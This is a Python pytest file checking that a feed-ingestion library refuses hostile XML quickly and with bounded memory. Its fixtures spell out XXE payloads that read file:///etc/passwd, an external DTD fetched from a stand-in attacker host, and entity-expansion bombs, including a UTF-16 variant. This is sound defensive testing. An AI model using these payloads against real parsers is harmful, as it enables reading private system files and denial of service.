"""Hostile XML is refused before any entity is expanded, quickly and with bounded memory."""

from __future__ import annotations

import time
import tracemalloc
from collections.abc import Callable

import pytest
from vigil_ingest.cap import parse_cap
from vigil_ingest.detect import parse_input
from vigil_ingest.errors import HostileXMLError, InvalidInput
from vigil_ingest.feeds import parse_feed

ReadFeed = Callable[[str], bytes]

XXE_CAP = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&xxe;</identifier>
<sender>a@b.test</sender><sent>2024-01-01T00:00:00Z</sent></alert>"""

XXE_RSS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>t</title><item><title>&xxe;</title><description>x</description></item>
</channel></rss>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example.test/evil.dtd">
<rss version="2.0"><channel><title>t</title></channel></rss>"""

# Not well-formed (so defusedxml cannot vet it) but still carrying an entity bomb for feedparser.
MALFORMED_BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>
<rss version="2.0"><channel><title>&b;</title><item><title>&b;<description>x</item></channel>"""


def _refused_fast(parse: Callable[[bytes], object], data: bytes) -> HostileXMLError:
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(HostileXMLError) as caught:
            parse(data)
    finally:
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert elapsed < 2.0, f"refusal took {elapsed:.2f}s"
    assert peak < 20_000_000, f"refusal peaked at {peak} bytes"
    return caught.value


@pytest.mark.parametrize("parser", [parse_cap, parse_feed, parse_input], ids=["cap", "feed", "detect"])
def test_billion_laughs_is_refused_quickly(feed_bytes: ReadFeed, parser: Callable[[bytes], object]) -> None:
    error = _refused_fast(parser, feed_bytes("billion-laughs.xml"))
    assert "refused XML" in str(error)
    assert isinstance(error, InvalidInput)


@pytest.mark.parametrize(
    "data", [XXE_CAP, XXE_RSS, EXTERNAL_DTD, MALFORMED_BOMB], ids=["cap", "rss", "dtd", "malformed"]
)
def test_external_entities_and_dtds_are_refused(data: bytes) -> None:
    _refused_fast(parse_input, data)
    with pytest.raises(HostileXMLError):
        parse_feed(data)


def test_xxe_in_cap_never_reads_the_file() -> None:
    with pytest.raises(HostileXMLError) as caught:
        parse_cap(XXE_CAP)
    assert "root:" not in str(caught.value)


def test_utf16_encoded_bomb_is_refused() -> None:
    bomb = MALFORMED_BOMB.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="utf-16"?>')
    with pytest.raises(HostileXMLError):
        parse_feed(bomb.decode().encode("utf-16"))
